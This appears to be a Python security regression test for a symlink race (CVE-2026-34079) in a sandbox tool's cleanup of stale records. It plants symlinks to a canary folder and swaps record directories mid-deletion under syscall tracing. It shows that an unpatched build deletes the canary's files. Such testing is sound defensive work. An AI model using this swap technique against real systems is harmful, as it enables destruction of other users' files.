"""A11 (CVE-2026-34079): what is removed at the end, or as stale, lies behind a link that was put in its place."""
from attack import *

canary = Canary()
records = os.path.join(os.environ["XDG_RUNTIME_DIR"], "sandbox")
os.makedirs(records, mode=0o700)


def plant(name):
    os.symlink(canary.folder, f"{records}/{name}")


def unplant(name):
    if os.path.islink(f"{records}/{name}"):
        os.unlink(f"{records}/{name}")


# The control of stale records: removal by name, as a shell does it. That of a record that ends is below.
plant("stale")
run("/bin/rm", "-f", f"{records}/stale/state", f"{records}/stale/plan")
control({"state", "plan"} <= set(canary.changed()), "removal by name")
canary.renew()
unplant("stale")
# Links that lie there like the records of dead sandboxes; every verb that looks takes stale ones away.
for name in ("stale", ".stale.1", "next"):
    plant(name)
for words in (["ps"], ["ps", "--json"], ["state", "stale"], ["kill", "stale"], ["exec", "stale", "--", "/bin/true"], ["run", "--profile", "minimal", "--id", "next", "--", "/bin/true"]):
    run(SANDBOX, *words)
    canary.unchanged(" ".join(words))
for name in ("stale", ".stale.1", "next"):
    unplant(name)
# The record of a running sandbox, exchanged before each removal of the end.
removals = [stop["stop"] for stop in traced(SANDBOX, "run", "--profile", "minimal", "--id", "ends", "--", "/bin/true", calls=("unlinkat",))["stops"]]
check(len(removals) >= 4, f"few removals: {removals}")
for stop in removals:
    os.symlink(canary.folder, f"{records}/aside")
    seen = traced(SANDBOX, "run", "--profile", "minimal", "--id", "ends", "--", "/bin/true", actions=[("--swap", stop, f"{records}/ends", f"{records}/aside")])
    # At the last removals the record may be gone already: then there is nothing to exchange.
    check(seen["actions"][0]["done"], f"{stop} was not reached")
    canary.unchanged(stop)
    for name in ("ends", "aside"):
        unplant(name)
        shutil.rmtree(f"{records}/{name}", ignore_errors=True)
# Without the descriptor the end removes what has the name by then, which is the canary.
folder = f"{HOME}/.undefended"
os.makedirs(folder)
with open(f"{folder}/defences-off", "w") as file:
    file.write("record-itself")
words = (UNDEFENDED, "run", "--profile", "minimal", "--id", "ends", "--", "/bin/true")
stops = [stop["stop"] for stop in traced(*words, calls=("openat", "unlinkat"), cwd=folder)["stops"] if stop["process"] == "sandbox-helper"]
last = next(number for number, stop in enumerate(stops) if "/unlinkat" in stop)
removed = []
for stop in reversed(stops[:last]):
    os.symlink(canary.folder, f"{records}/aside")
    traced(*words, actions=[("--swap", stop, f"{records}/ends", f"{records}/aside")], cwd=folder)
    removed = canary.changed()
    canary.renew()
    for name in ("ends", "aside"):
        unplant(name)
        shutil.rmtree(f"{records}/{name}", ignore_errors=True)
    if removed:
        break
control("secret" in removed and "state" in removed, f"no swap before the removal took anything of the canary: {removed}")
